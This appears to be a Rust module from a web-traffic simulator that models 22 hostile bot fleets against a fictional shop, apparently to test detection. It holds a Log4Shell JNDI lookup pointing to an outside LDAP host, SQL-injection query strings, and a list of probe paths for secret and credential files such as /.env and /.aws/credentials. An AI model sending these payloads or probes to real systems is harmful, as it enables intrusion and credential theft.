//! Attack families, most of them fleets whose members each stay under every threshold.

use super::*;

/// All of them.
pub const ATTACKERS: &[&Population] = &[
    &STUFFING_FLEET,
    &STUFFING_ONE_AGENT,
    &FRONT_PAGE_FLOOD,
    &SEARCH_FLOOD,
    &PRICE_SCRAPER,
    &ID_ENUMERATION,
    &SLOW_SCANNER,
    &ONE_PROBE_EACH,
    &XMLRPC_BOTNET,
    &LOG4SHELL_SPRAY,
    &INJECTOR,
    &CARDING,
    &COUPON_GUESSING,
    &HOARDING,
    &FALSE_GOOGLEBOT,
    &SMS_PUMPING,
    &SINGLE_FLOOD,
    &HEAD_PROBE,
    &COMMENT_SPAM,
    &SUBNET_SCRAPE,
    &REFERER_SPAM,
    &HEADLESS_FLEET,
];

const PROBES: &[&str] = &[
    "/.env",
    "/.git/HEAD",
    "/wp-login.php",
    "/phpmyadmin/",
    "/backup.sql",
    "/config.yml",
    "/server-status",
    "/actuator/env",
    "/.aws/credentials",
    "/admin.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/test.php",
    "/old/index.php",
    "/api/swagger.json",
    "/console/login",
    "/uploads/shell.php",
    "/db.sql.gz",
    "/.svn/entries",
    "/web.config",
    "/id_rsa",
    "/solr/admin/cores",
    "/manager/html",
    "/users/export",
    "/private/",
    "/internal/metrics",
];

const STUFFING_FLEET: Population = Population {
    name: "stuffing-fleet",
    hostile: true,
    description: say::stuffing_fleet,
    actors: |plan, numbers| {
        let fleet = Fleet {
            number: 1,
            members: 180,
            delay: 300.0,
            spread: 2400.0,
            turns: (1, 3),
            pause: 200.0,
            regular: false,
        };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let status = if rng.random_ratio(1, 60) { 302 } else { 401 };
                Sent::post(client, agent).status(status).to("/login", "", at, rng, send);
            })
        })
    },
};

const STUFFING_ONE_AGENT: Population = Population {
    name: "stuffing-one-agent",
    hostile: true,
    description: say::stuffing_one_agent,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 2, members: 60, delay: 600.0, spread: 1200.0, turns: (3, 9), pause: 60.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, _| {
            Box::new(move |at, rng, send| {
                Sent::post(client, "okhttp/4.9.3").status(401).to("/api/auth/token", "", at, rng, send);
            })
        })
    },
};

const FRONT_PAGE_FLOOD: Population = Population {
    name: "front-page-flood",
    hostile: true,
    description: say::front_page_flood,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 3, members: 240, delay: 1200.0, spread: 120.0, turns: (3, 12), pause: 9.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let status = if rng.random_ratio(1, 4) { 503 } else { 200 };
                Sent::get(client, agent).status(status).to(
                    format!("/?{:x}={:x}", rng.random::<u16>(), rng.random::<u32>()),
                    "",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const SEARCH_FLOOD: Population = Population {
    name: "search-flood",
    hostile: true,
    description: say::search_flood,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 4, members: 120, delay: 1500.0, spread: 900.0, turns: (2, 6), pause: 50.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let status = [200, 200, 499, 504, 503][rng.random_range(0..5)];
                Sent::get(client, agent).status(status).slow(2500).to(
                    format!("/search?q={:06x}&page={}", rng.random::<u32>() >> 8, rng.random_range(1..90)),
                    "",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const PRICE_SCRAPER: Population = Population {
    name: "price-scraper",
    hostile: true,
    description: say::price_scraper,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 5, members: 90, delay: 60.0, spread: 3000.0, turns: (4, 10), pause: 40.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                Sent::get(client, agent).to(shop::product_path(rng), "", at, rng, send);
            })
        })
    },
};

const ID_ENUMERATION: Population = Population {
    name: "id-enumeration",
    hostile: true,
    description: say::id_enumeration,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 6, members: 6, delay: 400.0, spread: 200.0, turns: (80, 160), pause: 12.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
        let mut next = rng.random_range(10_000..90_000_u32);
        Box::new(move |at, rng, send| {
            next += 1;
            let status = if rng.random_ratio(1, 5) { 200 } else { 404 };
            Sent::get(client, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36").status(status).to(format!("/api/orders/{next}"), "", at, rng, send);
        })
        })
    },
};

const SLOW_SCANNER: Population = Population {
    name: "slow-scanner",
    hostile: true,
    description: say::slow_scanner,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 7, members: 25, delay: 100.0, spread: 600.0, turns: (10, 25), pause: 60.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let path = pick(rng, PROBES);
                Sent::get(client, agent).status(404).to(path, "", at, rng, send);
            })
        })
    },
};

const ONE_PROBE_EACH: Population = Population {
    name: "one-probe-each",
    hostile: true,
    description: say::one_probe_each,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 8, members: 110, delay: 200.0, spread: 3000.0, turns: (1, 2), pause: 30.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, _| {
            Box::new(move |at, rng, send| {
                Sent::get(client, "Mozilla/5.0").status(404).to(
                    "/wp-content/plugins/hellopress/wp_filemanager.php",
                    "",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const XMLRPC_BOTNET: Population = Population {
    name: "xmlrpc-botnet",
    hostile: true,
    description: say::xmlrpc_botnet,
    actors: |plan, numbers| {
        let fleet = Fleet {
            number: 9,
            members: 100,
            delay: 300.0,
            spread: 2700.0,
            turns: (1, 3),
            pause: 120.0,
            regular: false,
        };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                Sent::post(client, agent).status(404).to("/xmlrpc.php", "", at, rng, send);
            })
        })
    },
};

const LOG4SHELL_SPRAY: Population = Population {
    name: "log4shell-spray",
    hostile: true,
    description: say::log4shell_spray,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 10, members: 12, delay: 500.0, spread: 2000.0, turns: (1, 2), pause: 5.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, _| {
            Box::new(move |at, rng, send| {
                Sent::get(client, "${jndi:ldap://198.51.100.7:1389/Exploit}").to(
                    "/?x=${jndi:ldap://198.51.100.7/a}",
                    "",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const INJECTOR: Population = Population {
    name: "injector",
    hostile: true,
    description: say::injector,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 11, members: 5, delay: 700.0, spread: 900.0, turns: (20, 60), pause: 4.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, _| {
        Box::new(move |at, rng, send| {
            let number = rng.random_range(1..9000);
            let uri = match rng.random_range(0..4) {
                0 => format!("/search?q={number}%27%20UNION%20ALL%20SELECT%20NULL,NULL--"),
                1 => format!("/search?q=1%20AND%20{number}={number}"),
                2 => format!("/product/x?id={number}%27%20OR%20%271%27=%271"),
                _ => format!("/search?q={number}"),
            };
            let status = if rng.random_bool(0.3) { 500 } else { 200 };
            Sent::get(client, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36").status(status).to(uri, "", at, rng, send);
        })
        })
    },
};

const CARDING: Population = Population {
    name: "carding",
    hostile: true,
    description: say::carding,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 12, members: 70, delay: 800.0, spread: 1800.0, turns: (1, 4), pause: 90.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let status = if rng.random_ratio(1, 12) { 200 } else { 402 };
                Sent::post(client, agent).status(status).to(
                    "/api/checkout/pay",
                    "https://shop.example/checkout",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const COUPON_GUESSING: Population = Population {
    name: "coupon-guessing",
    hostile: true,
    description: say::coupon_guessing,
    actors: |plan, numbers| {
        let fleet = Fleet {
            number: 13,
            members: 40,
            delay: 500.0,
            spread: 1500.0,
            turns: (4, 12),
            pause: 70.0,
            regular: false,
        };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let uri = format!("/api/coupon?code={:06X}", rng.random::<u32>() >> 8);
                Sent::get(client, agent).status(404).to(uri, "", at, rng, send);
            })
        })
    },
};

const HOARDING: Population = Population {
    name: "hoarding",
    hostile: true,
    description: say::hoarding,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 14, members: 80, delay: 900.0, spread: 1500.0, turns: (2, 5), pause: 45.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                Sent::post(client, agent).status(201).to("/api/cart", "", at, rng, send);
            })
        })
    },
};

const FALSE_GOOGLEBOT: Population = Population {
    name: "false-googlebot",
    hostile: true,
    description: say::false_googlebot,
    actors: |plan, numbers| {
        let fleet = Fleet {
            number: 15,
            members: 3,
            delay: 200.0,
            spread: 300.0,
            turns: (150, 300),
            pause: 6.0,
            regular: false,
        };
        fleet.start(plan.attacks_from, numbers, |client, _| {
            Box::new(move |at, rng, send| {
                Sent::get(client, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)").to(
                    shop::product_path(rng),
                    "",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const SMS_PUMPING: Population = Population {
    name: "sms-pumping",
    hostile: true,
    description: say::sms_pumping,
    actors: |plan, numbers| {
        let fleet = Fleet {
            number: 16,
            members: 60,
            delay: 1000.0,
            spread: 1500.0,
            turns: (1, 4),
            pause: 60.0,
            regular: false,
        };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let status = if rng.random_ratio(1, 6) { 429 } else { 200 };
                Sent::post(client, agent).status(status).to("/api/otp/send", "", at, rng, send);
            })
        })
    },
};

const SINGLE_FLOOD: Population = Population {
    name: "single-flood",
    hostile: true,
    description: say::single_flood,
    actors: |plan, numbers| {
        let fleet = Fleet {
            number: 17,
            members: 2,
            delay: 1000.0,
            spread: 600.0,
            turns: (1500, 2500),
            pause: 0.15,
            regular: false,
        };
        fleet.start(plan.attacks_from, numbers, |client, _| {
            Box::new(move |at, rng, send| {
                let status = if rng.random_bool(0.3) { 499 } else { 200 };
                Sent::get(client, pick(rng, shop::BROWSERS)).status(status).to("/category/fruit", "", at, rng, send);
            })
        })
    },
};

const HEAD_PROBE: Population = Population {
    name: "head-probe",
    hostile: true,
    description: say::head_probe,
    actors: |plan, numbers| {
        let fleet = Fleet {
            number: 18,
            members: 3,
            delay: 300.0,
            spread: 900.0,
            turns: (120, 260),
            pause: 2.0,
            regular: false,
        };
        fleet.start(plan.attacks_from, numbers, |client, _| {
            Box::new(move |at, rng, send| {
                let head = Sent { method: "HEAD", ..Sent::get(client, "python-requests/2.31.0") };
                head.status(404).to(
                    format!(
                        "/{}/{:x}",
                        ["old", "backup", "files", "uploads"][rng.random_range(0..4)],
                        rng.random::<u16>()
                    ),
                    "",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const COMMENT_SPAM: Population = Population {
    name: "comment-spam",
    hostile: true,
    description: say::comment_spam,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 19, members: 60, delay: 100.0, spread: 3200.0, turns: (1, 2), pause: 20.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                let status = [200, 403, 403][rng.random_range(0..3)];
                Sent::post(client, agent).status(status).to(
                    "/review/comment",
                    "https://shop.example/product/1",
                    at,
                    rng,
                    send,
                );
            })
        })
    },
};

const SUBNET_SCRAPE: Population = Population {
    name: "subnet-scrape",
    hostile: true,
    description: say::subnet_scrape,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 20, members: 70, delay: 400.0, spread: 2500.0, turns: (5, 9), pause: 60.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            let client = match client {
                IpAddr::V4(four) => IpAddr::V4(std::net::Ipv4Addr::from(0xf123_4500 | (u32::from(four) & 0xff))),
                six => six,
            };
            Box::new(move |at, rng, send| {
                let uri = if rng.random_bool(0.8) {
                    shop::product_path(rng).to_owned()
                } else {
                    pick(rng, shop::CATEGORIES).to_owned()
                };
                Sent::get(client, agent).to(uri, "", at, rng, send);
            })
        })
    },
};

const REFERER_SPAM: Population = Population {
    name: "referer-spam",
    hostile: true,
    description: say::referer_spam,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 21, members: 50, delay: 0.0, spread: 3500.0, turns: (1, 2), pause: 5.0, regular: false };
        fleet.start(plan.attacks_from, numbers, |client, rng| {
            let agent = pick(rng, shop::BROWSERS);
            Box::new(move |at, rng, send| {
                Sent::get(client, agent).to("/", "https://cheap-casino.example/win", at, rng, send);
            })
        })
    },
};

const HEADLESS_FLEET: Population = Population {
    name: "headless-fleet",
    hostile: true,
    description: say::headless_fleet,
    actors: |plan, numbers| {
        let fleet =
            Fleet { number: 22, members: 30, delay: 600.0, spread: 1500.0, turns: (2, 4), pause: 30.0, regular: true };
        fleet.start(plan.attacks_from, numbers, |client, _| {
        let agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36";
        Box::new(move |at, rng, send| {
            let sent = Sent::get(client, agent);
            sent.to("/product/limited-edition", "", at, rng, send);
            sent.to("/assets/app.91be07.js", "https://shop.example/product/limited-edition", at + seconds(0.1), rng, send);
            sent.to("/assets/app.6f1c2a.css", "https://shop.example/product/limited-edition", at + seconds(0.1), rng, send);
            Sent::post(client, agent).status(201).to("/api/cart", "https://shop.example/product/limited-edition", at + seconds(0.6), rng, send);
        })
        })
    },
};

mod say {
    crate::text::words! {
        stuffing_fleet { en: "Credential stuffing: hundreds of addresses, one to three sign-ins each, a browser's agent, nearly all refused.", ko: "자격 증명 대입: 수백 개 주소가 각 1~3회 로그인, 브라우저로 위장, 거의 모두 거부됨." }
        stuffing_one_agent { en: "Credential stuffing through proxies: one library's agent, an interface, one attempt a minute each.", ko: "프록시를 통한 자격 증명 대입: 같은 라이브러리 에이전트, 주소마다 분당 한 번." }
        front_page_flood { en: "A flood of the front page: hundreds of addresses ask for / with random queries, a few times each, all at once.", ko: "첫 페이지 폭주: 수백 개 주소가 동시에 임의 쿼리로 첫 페이지를 여러 번 요청." }
        search_flood { en: "Expensive searches from many addresses, slowly each, many cut off.", ko: "여러 주소에서 천천히 무거운 검색을 보내고 다수가 끊김." }
        price_scraper { en: "A scraper behind a proxy pool: product pages only, one after another, no assets, forged browsers.", ko: "프록시 뒤의 스크레이퍼: 상품 페이지만 차례로, 부속 파일 없이, 위장 브라우저." }
        id_enumeration { en: "Walks through order numbers over an interface from a handful of addresses.", ko: "몇 개 주소에서 주문 번호를 차례로 훑음." }
        slow_scanner { en: "A scanner of one request every twelve seconds, over many addresses, each with its own part of a list.", ko: "12초에 한 번씩, 여러 주소에 나눠 목록을 훑는 스캐너." }
        one_probe_each { en: "A botnet that looks for one weakness: each address asks once or twice for the same path.", ko: "한 가지 약점을 찾는 봇넷: 주소마다 같은 경로를 한두 번 요청." }
        xmlrpc_botnet { en: "WordPress password guessing over xmlrpc.php, two attempts from each of many addresses.", ko: "많은 주소에서 xmlrpc.php로 비밀번호를 두 번씩 추측." }
        log4shell_spray { en: "Lookups in agent and target, one or two requests an address.", ko: "에이전트와 대상에 조회 구문을 넣어 주소마다 한두 번." }
        injector { en: "SQL injection against the search and product pages.", ko: "검색과 상품 페이지에 SQL 주입." }
        carding { en: "Card testing: a fleet posts to checkout, most are declined.", ko: "카드 도용 시험: 여러 주소가 결제를 보내고 대부분 거절됨." }
        coupon_guessing { en: "Guesses coupon codes, slowly, over a pool of addresses.", ko: "쿠폰 코드를 여러 주소에서 천천히 추측." }
        hoarding { en: "Inventory hoarding: adds the same product to carts that are never bought.", ko: "재고 선점: 같은 상품을 장바구니에 담기만 함." }
        false_googlebot { en: "A scraper that calls itself Googlebot.", ko: "구글봇이라고 자칭하는 스크레이퍼." }
        sms_pumping { en: "Asks for one-time codes by text message, over many addresses, to earn from the numbers.", ko: "많은 주소에서 문자 인증 코드를 요청해 수익을 노림." }
        single_flood { en: "One address, hundreds of requests a minute.", ko: "한 주소에서 분당 수백 번." }
        head_probe { en: "Checks thousands of paths by HEAD with a library.", ko: "라이브러리로 HEAD 요청을 보내 경로를 확인." }
        comment_spam { en: "Posts comments with links, one or two per address.", ko: "주소마다 한두 번씩 링크가 든 댓글을 씀." }
        subnet_scrape { en: "A scraper with a hosting provider's /24, each address a little.", ko: "호스팅 업체의 /24 대역을 나눠 쓰는 스크레이퍼." }
        referer_spam { en: "Visits the front page once with an advertising referer.", ko: "광고 리퍼러를 달고 첫 페이지를 한 번 방문." }
        headless_fleet { en: "Headless browsers that add to cart and check out, with assets, in one rhythm.", ko: "부속 파일까지 받는 헤드리스 브라우저가 같은 박자로 장바구니·결제." }
    }
}
